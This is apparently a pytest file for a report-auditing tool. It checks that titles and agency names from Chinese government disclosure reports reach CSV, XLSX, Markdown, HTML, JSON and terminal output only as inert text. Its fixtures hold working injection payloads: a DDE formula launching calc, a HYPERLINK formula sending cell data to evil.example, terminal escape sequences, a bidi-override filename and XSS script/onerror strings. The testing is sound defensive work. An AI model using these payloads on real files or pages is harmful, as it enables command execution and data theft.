"""Issue 9, output safety: nothing from a report (title, agency, path, quoted text, messages built from them) reaches
an output as a formula, markup or a terminal control sequence, and no character crashes a writer."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from auditor.cli import main
from auditor.formatters import FORMATTERS
from auditor.formatters.safe import csv_text, formula_like, html_text, invisible, json_text, markdown_text, visible
from auditor.model import DocumentResult, Evidence, Finding, Location, Operand, Problem, ReportInfo, RunResult, Severity
from auditor.packs import Pack
from auditor.run import audit_paths
from auditor.store import Store
from auditor.summary import collect, write_all
from auditor.summary.collect import COUNTED, DocumentRow, FindingRow, Summary, Totals, _t3_totals, _t4_totals
from auditor.summary.markdown import render_markdown
from tests.conftest import SAMPLES

S004 = SAMPLES / "004_bdd5b039361f2e6c.txt"
ORDINARY = "焦作市人民政府办公室　２０２１年（全文）「依申请公开」，第一部分：总体情况。"

FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-1+1", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", " =1+1")
CONTROLS = ("局\x1b[31m红\x1b[0m", "局\x1b]0;pwned\x07", "局\x9b2J", "局\rEVIL", "局\x08\x08", "局\x07",
            "局\u202etxt.exe", "局\x00\x01\x0b\x0c\x1f\x7f", "局\udcff", "局\u2028行")
MARKUP = ("局<script>alert(1)</script>", '局<img src=x onerror="alert(1)">', '局" onerror="alert(1)',
          "局**粗**[链接](javascript:alert(1))|表格|`code`")
HOSTILE = FORMULAS + CONTROLS + MARKUP

# An SGR colour code, the only control sequence the text formatter itself prints.
_SGR = re.compile(r"\x1b\[[0-9;]*m")


def _no_controls(text: str, allowed: str = "\n") -> None:
    bad = sorted({c for c in text if invisible(c) and c not in allowed})
    assert not bad, [hex(ord(c)) for c in bad]


# --- the escaping functions ---------------------------------------------------------------------------------------

def test_ordinary_chinese_text_passes_unchanged() -> None:
    assert visible(ORDINARY) == html_text(ORDINARY) == markdown_text(ORDINARY) == csv_text(ORDINARY) == ORDINARY


def test_every_control_format_and_surrogate_character_is_listed() -> None:
    """The list in safe.py is written out (computing it costs 0.2 s a run); this keeps it complete for the running
    Python's Unicode database."""
    missed = [hex(c) for c in range(0x110000)
              if unicodedata.category(chr(c)) in {"Cc", "Cf", "Cs", "Zl", "Zp"} and not invisible(chr(c))]
    assert not missed


@pytest.mark.parametrize("text", CONTROLS)
def test_visible_leaves_no_control_character(text: str) -> None:
    shown = visible(text)
    _no_controls(shown, allowed="")
    assert shown.isprintable() and shown.startswith("局")
    shown.encode("utf-8")


def test_visible_names_what_it_replaced() -> None:
    assert visible("a\x1b[31mb\u202ec\udcff\td") == "a\\x1b[31mb\\u202ec\\udcff\\td"


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_starts_are_neutralised_in_csv(text: str) -> None:
    """Marked with the apostrophe, or (a leading tab or CR) made visible as text that starts with a backslash."""
    assert formula_like(text)
    cell = csv_text(text)
    assert cell.startswith("'") or cell.startswith(("\\t", "\\r")) and not formula_like(cell)


@pytest.mark.parametrize("text", ["-3", "+5", "-26.79", "0", "15", "标题机关为「=cmd」", "a=b", "'=1"])
def test_plain_numbers_and_inner_equals_are_not_formulas(text: str) -> None:
    assert not formula_like(text)
    assert csv_text(text) == text


def test_markdown_escapes_html_and_structure() -> None:
    assert markdown_text("<script>a&b</script>") == "&lt;script&gt;a&amp;b&lt;/script&gt;"
    assert markdown_text("**x** [l](u) a|b `c` ~d~ \\") == "\\*\\*x\\*\\* \\[l\\](u) a\\|b \\`c\\` \\~d\\~ \\\\"
    assert markdown_text("_em_ 004_bdd5b039.txt") == "\\_em\\_ 004_bdd5b039.txt"  # intraword _ cannot emphasise
    assert "\n" not in markdown_text("a\nb\r\n- item")


def test_json_text_keeps_the_data_and_is_encodable() -> None:
    value = {"agency": "局\x9b\x7f\u202e\udcff\U000e0041\u2028", "lines": "a\nb"}
    dumped = json_text(json.dumps(value, ensure_ascii=False, indent=2))
    dumped.encode("utf-8")
    _no_controls(dumped)
    assert json.loads(dumped) == value
    assert json_text(json.dumps(ORDINARY, ensure_ascii=False)) == json.dumps(ORDINARY, ensure_ascii=False)


# --- the audit's own outputs: text and JSON ----------------------------------------------------------------------

def _document(agency: str) -> DocumentResult:
    where = Location(section=3, line=12)
    operand = Operand("claim.new_received", 9, f"{agency}收到申请 9 件", "number", where)
    finding = Finding("TXT-NEW", "narrative.new", "TXT-NEW", Severity.ERROR, f"标题机关为「{agency}」", where,
                      Evidence("15", "9", (operand,)))
    return DocumentResult(f"/in/{agency}.txt", "text", ReportInfo(f"{agency} 2021 年年度报告", agency, 2021, 2021),
                          "standard@0.1.0", findings=(finding,), passed=3,
                          problems=(Problem("slug", "title", f"{agency}: 无法读取"),))


def test_text_output_prints_no_control_sequence_of_a_report() -> None:
    result = RunResult(tuple(_document(a) for a in HOSTILE), (Problem("run", "t", "运行\x1b[2J"),))
    plain = "".join(FORMATTERS["text"](result, False))
    _no_controls(plain)
    coloured = "".join(FORMATTERS["text"](result, True))
    _no_controls(_SGR.sub("", coloured))  # the formatter's own colours are the only sequences left
    assert _SGR.search(coloured)
    assert "局\\x1b[31m红" in plain and "局\\u202etxt.exe" in plain and "局\\udcff" in plain
    coloured.encode("utf-8")


def test_text_output_of_ordinary_text_is_unchanged() -> None:
    plain = "".join(FORMATTERS["text"](RunResult((_document(ORDINARY),)), False))
    assert f"/in/{ORDINARY}.txt  {ORDINARY} · 2021" in plain and f"标题机关为「{ORDINARY}」" in plain


def test_json_output_survives_lone_surrogates_and_keeps_the_data() -> None:
    result = RunResult(tuple(_document(a) for a in HOSTILE))
    dumped = "".join(FORMATTERS["json"](result, False))
    dumped.encode("utf-8")  # ensure_ascii=False would leave a lone surrogate raw: UnicodeEncodeError
    _no_controls(dumped)
    data = json.loads(dumped)
    assert [d["report"]["agency"] for d in data["documents"]] == list(HOSTILE)


# --- the annual summary ---------------------------------------------------------------------------------------------

def _summary(agencies: tuple[str, ...]) -> Summary:
    counts = dict.fromkeys(COUNTED, 0) | {"error": 1}
    docs = tuple(DocumentRow(i, a, 2021, f"/in/{a}.txt", "standard@0.1.0", counts, (), "error")
                 for i, a in enumerate(agencies, start=1))
    findings = tuple(FindingRow(a, 2021, f"/in/{a}.txt", "TXT-NEW", "TXT-NEW", "error", f"{a}：正文称收到申请 9 件",
                                12, a, "-3", document_id=i) for i, a in enumerate(agencies, start=1))
    # Every report left out of the totals and named in the notes, each file named as a copy.
    left_out, copies = tuple(f"{a} 2021" for a in agencies), tuple(f"{a}.txt" for a in agencies)
    t3 = Totals(_t3_totals([]).values, left_out, copies)
    t4 = Totals(_t4_totals([]).values, left_out)
    return Summary(2021, docs, findings, t3, t4, agencies, True, {("TXT-NEW", "error"): len(agencies)})


class _Tags(HTMLParser):
    """Every start tag and its attributes, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _check_xlsx(path: Path, agencies: tuple[str, ...]) -> None:
    """No cell is a formula or an error value; each string that looks like a formula is marked as typed text; the
    counts are numbers."""
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]|t=\"e\"", s) for s in sheets)
    workbook = openpyxl.load_workbook(path)
    seen = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    _no_controls(cell.value, allowed="")
                    assert cell.quotePrefix == formula_like(cell.value)
                    seen.add(cell.value)
        if workbook.index(sheet) < 2:  # the agencies' and findings' year column stays a number
            assert all(isinstance(c.value, int) for c in sheet["B"][1:])
    assert {visible(a) for a in agencies} <= seen


def _check_csv(path: Path, report_columns: tuple[int, ...]) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows[1:]:
        for index in report_columns:
            assert not formula_like(row[index]), row[index]
            _no_controls(row[index], allowed="")
    return rows


def _check_markdown(text: str) -> None:
    assert "<" not in text and ">" not in text  # the summary writes no tag of its own, so none may appear
    _no_controls(text)  # no newline of a report's either, so none can start a block
    assert "](" not in text.replace("\\](", "")  # no link


def _check_html(text: str) -> None:
    parser = _Tags()
    parser.feed(text)
    assert {tag for tag, _ in parser.tags} <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p",
                                               "span",
                                               "table", "thead", "tbody", "tr", "th", "td", "svg", "text", "rect",
                                               "ul", "li"}
    assert not [a for _, attrs in parser.tags for a, _ in attrs if a.startswith("on")]
    _no_controls(text)


def test_every_summary_file_is_written_whatever_the_agency_names(tmp_path: Path) -> None:
    """An agency name with control characters raised IllegalCharacterError: no XLSX or CSV for the whole year."""
    paths = write_all(_summary(HOSTILE), tmp_path, "zh")
    assert {p.name for p in paths} == {"summary.html", "summary.md", "summary.xlsx", "agencies.csv", "findings.csv",
                                       "tongbao.docx"}


@pytest.mark.parametrize("agencies", [FORMULAS, HOSTILE], ids=["formulas", "all"])
def test_xlsx_stores_report_text_as_text(agencies: tuple[str, ...], tmp_path: Path) -> None:
    """A title of "=cmd|' /C calc'!A0" was stored as a live formula."""
    write_all(_summary(agencies), tmp_path, "zh", ("xlsx",))
    _check_xlsx(tmp_path / "summary.xlsx", agencies)


@pytest.mark.parametrize("agencies", [FORMULAS, MARKUP], ids=["formulas", "markup"])
def test_csv_and_markdown_of_printable_attacks(agencies: tuple[str, ...], tmp_path: Path) -> None:
    """The same attacks without a character that would fail to encode (so each check is reached on the old code)."""
    write_all(_summary(agencies), tmp_path, "zh", ("csv", "md"))
    _check_csv(tmp_path / "agencies.csv", (0, 2))
    _check_csv(tmp_path / "findings.csv", (0, 5, 7, 8))
    _check_markdown((tmp_path / "summary.md").read_text(encoding="utf-8"))


def test_csv_cells_from_reports_cannot_be_formulas(tmp_path: Path) -> None:
    write_all(_summary(HOSTILE), tmp_path, "zh", ("csv",))
    agencies = _check_csv(tmp_path / "agencies.csv", (0, 2))
    assert [r[0] for r in agencies[1:]] == [csv_text(a) for a in HOSTILE]
    assert agencies[1][0] == "'=cmd|' /C calc'!A0" and agencies[1][1] == "2021"
    findings = _check_csv(tmp_path / "findings.csv", (0, 5, 7, 8))
    assert all(r[8] == "-3" for r in findings[1:])  # a computed negative number is a number, not text


def test_markdown_carries_no_markup_from_reports(tmp_path: Path) -> None:
    write_all(_summary(HOSTILE), tmp_path, "zh", ("md",))
    _check_markdown((tmp_path / "summary.md").read_text(encoding="utf-8"))


def test_html_escapes_titles_and_agency_names(tmp_path: Path) -> None:
    write_all(_summary(HOSTILE), tmp_path, "zh", ("html",))
    html = (tmp_path / "summary.html").read_text(encoding="utf-8")
    _check_html(html)
    assert "局&lt;script&gt;alert(1)&lt;/script&gt;" in html and "局&quot; onerror=&quot;alert(1)" in html


def test_summary_of_ordinary_names_is_unchanged(tmp_path: Path) -> None:
    md = render_markdown(_summary((ORDINARY,)), "zh")
    assert f"- **{ORDINARY}**（2021，{ORDINARY}.txt）" in md and f"  - TXT-NEW: {ORDINARY}：正文称收到申请 9 件" in md
    write_all(_summary((ORDINARY,)), tmp_path, "zh", ("xlsx", "csv"))
    sheet = openpyxl.load_workbook(tmp_path / "summary.xlsx").worksheets[0]
    assert sheet["A2"].value == ORDINARY and not sheet["A2"].quotePrefix
    assert (tmp_path / "agencies.csv").read_text(encoding="utf-8-sig").splitlines()[1].startswith(ORDINARY + ",")


def test_an_overlong_cell_is_cut_for_excel(tmp_path: Path) -> None:
    write_all(_summary(("局" * 40_000,)), tmp_path, "zh", ("xlsx",))
    value = openpyxl.load_workbook(tmp_path / "summary.xlsx").worksheets[0]["A2"].value
    assert len(value) == 32_767 and value.endswith("…")


# --- one real run: a sample with a hostile title, audited into a store, summarised ------------------------------

# A title is at most 60 characters (auditor.facts.report), so one attack per report.
REAL = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","点")', "局\x1b[31m\x01\x07红\u202e",
        "局<script>alert(1)</script>办", "局<img src=x onerror=alert(1)>办")  # a title's < > at its ends are cut


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory, packs: list[Pack]) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "in"
    folder.mkdir()
    text = S004.read_text(encoding="utf-8")
    title = "# 焦作市人民政府办公室 2021 年"
    assert title in text
    for index, agency in enumerate(REAL):
        (folder / f"{index}.txt").write_text(text.replace(title, f"# {agency} 2021 年", 1), encoding="utf-8")
    db = folder.parent / "audits.db"
    with Store(db) as store:
        result = audit_paths([folder], packs, store=store)
    assert sorted(d.report.agency or "" for d in result.documents) == sorted(REAL)
    return db


def test_a_real_run_with_hostile_titles_gives_safe_outputs(hostile_store: Path, tmp_path: Path) -> None:
    summary = collect(hostile_store)
    assert sorted(d.agency for d in summary.documents) == sorted(REAL)
    write_all(summary, tmp_path, "zh")
    _check_xlsx(tmp_path / "summary.xlsx", REAL)
    agencies = _check_csv(tmp_path / "agencies.csv", (0, 2))
    assert "'=cmd|' /C calc'!A0" in [r[0] for r in agencies]
    assert all(r[4].isdigit() for r in agencies[1:])  # counts stay numbers
    _check_csv(tmp_path / "findings.csv", (0, 5, 7, 8))
    md = (tmp_path / "summary.md").read_text(encoding="utf-8")
    assert "<script" not in md and "<img" not in md
    _check_markdown(md)
    _check_html((tmp_path / "summary.html").read_text(encoding="utf-8"))


def test_a_real_run_in_text_format_prints_no_control_sequence(hostile_store: Path) -> None:
    result = CliRunner().invoke(main, ["audit", str(hostile_store.parent / "in")], catch_exceptions=False)
    assert result.exit_code == 1
    _no_controls(result.stdout)
    assert "局\\x1b[31m\\x01\\x07红\\u202e" in result.stdout
